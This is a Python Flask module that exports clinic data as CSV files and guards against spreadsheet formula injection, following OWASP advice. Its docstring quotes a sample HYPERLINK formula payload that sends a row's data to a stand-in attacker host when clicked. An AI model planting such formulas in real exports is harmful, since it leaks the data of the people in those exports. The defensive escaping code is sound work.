"""CSV files that leave the building: every export is written here, and only here.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula, and one that
starts with a tab or a carriage return may be trimmed into one; a series titled
`=HYPERLINK("https://evil.example/?"&A1, "Open")` would then carry a row of the census to
whoever clicks. OWASP's CSV injection advice, followed here: text that starts with any of those
gets a leading single quote, and every text cell is quoted. Numbers the code computed are
written as numbers (a shortfall of -1.5 stays -1.5): only text can come from a person.
"""

import csv
import io
from collections.abc import Iterable, Mapping
from datetime import datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

from flask import Response

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value):
    """One value as it goes into the file: numbers as they are, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, (bool, int, float, Decimal)):
        return value
    if isinstance(value, (list, tuple)):
        value = ";".join(str(v) for v in value)
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def local_time(value: str | None, tz: ZoneInfo) -> str | None:
    """An ISO 8601 instant as the clinic's wall-clock time, "2027-03-01 18:00", which a
    spreadsheet reads as a time; the file's time_zone column says whose."""
    if not value:
        return value
    return f"{datetime.fromisoformat(value).astimezone(tz):%Y-%m-%d %H:%M}"


def render(rows: Iterable[Mapping], columns: list[str]) -> str:
    """The header and one line per row; text quoted (QUOTE_NONNUMERIC), numbers bare."""
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\n")
    writer.writerow([cell(name) for name in columns])
    for row in rows:
        writer.writerow([cell(row[name]) for name in columns])
    return out.getvalue()


def response(rows: Iterable[Mapping], columns: list[str], filename: str) -> Response:
    """The file as a download."""
    return Response(
        render(rows, columns),
        mimetype="text/csv",
        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
    )
